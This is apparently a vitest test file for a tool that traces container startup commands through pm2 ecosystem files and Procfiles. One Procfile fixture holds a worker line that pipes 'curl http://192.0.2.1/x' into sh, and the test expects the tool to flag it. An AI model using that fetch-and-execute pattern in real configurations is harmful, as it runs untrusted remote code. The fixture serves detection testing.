import { describe, expect, it } from 'vitest';
import type { TestLayer } from '../../../../testkit/explain.ts';
import { chain, find, lines } from '../../../../testkit/service-image.ts';

describe('pm2 and Procfiles', () => {
  const pm2: TestLayer = { 'usr/local/bin/pm2-runtime': '#!/usr/bin/env node\nrequire("x")\n' };
  const config = { Cmd: ['pm2-runtime', 'start', 'ecosystem.config.js'], WorkingDir: '/app' };

  it('an ecosystem file that is a program is read as far as it says things in plain strings', () => {
    const files: TestLayer = {
      ...pm2,
      'app/ecosystem.config.js':
        "module.exports = {\n  apps: [{\n    name: 'web',\n    script: './web.js',\n    args: '--port 80',\n    env: { A: 'b' },\n  }, {\n    script: 'work.py',\n    interpreter: 'python3',\n    cwd: '/srv',\n  }],\n};\n",
      'app/web.js': 'x\n',
      'srv/work.py': 'x\n',
    };
    const steps = chain(config, files)[0]?.children.slice(1) ?? [];
    expect(steps.map(({ command, file, line }) => [command, file, line])).toEqual([
      ['node ./web.js --port 80', '/app/ecosystem.config.js', 4],
      ['python3 /srv/work.py', '/app/ecosystem.config.js', 8],
    ]);
    expect(steps[0]?.children[0]?.path).toBe('/app/web.js');
  });

  it('a JSON file is read, and one that computes says so', () => {
    const json = JSON.stringify({ apps: [{ script: '/app/a.sh', args: ['x'] }] });
    const told = { ...config, Cmd: ['pm2-runtime', 'p.json'] };
    expect(
      find(chain(told, { ...pm2, 'app/p.json': json, 'app/a.sh': 'x' }), 'bash /app/a.sh x'),
    ).toBeDefined();
    expect(chain(config, { ...pm2, 'app/ecosystem.config.js': 'module.exports = make();' })[0]?.unknown).toBe(
      '/app/ecosystem.config.js names no script that can be read without running it',
    );
  });

  it('a script is started by the interpreter of its name', () => {
    const told = { ...config, Cmd: ['pm2-runtime', 'web.js', '--', '-x'] };
    expect(find(chain(told, { ...pm2, 'app/web.js': 'x\n' }), 'node /app/web.js -x')).toBeDefined();
  });

  it('foreman and honcho run each line of a Procfile', () => {
    const files: TestLayer = {
      'usr/local/bin/honcho': '#!/usr/bin/python3\nimport honcho\n',
      'app/Procfile': '# processes\nweb: nginx -g x\nworker: curl http://192.0.2.1/x | sh\n',
    };
    expect(lines({ Cmd: ['honcho', 'start', 'web'], WorkingDir: '/app' }, files)).toEqual([
      'honcho [script]',
      '  /usr/bin/python3 [elf]',
      '  /bin/sh [elf]',
      '    nginx [elf]',
      '  /bin/sh [elf] {process worker, which is not among those named no}',
      '    pipeline [pipeline]',
      '      curl [elf]',
      '      sh [elf] !it runs what "curl http://192.0.2.1/x" gives it',
    ]);
  });
});
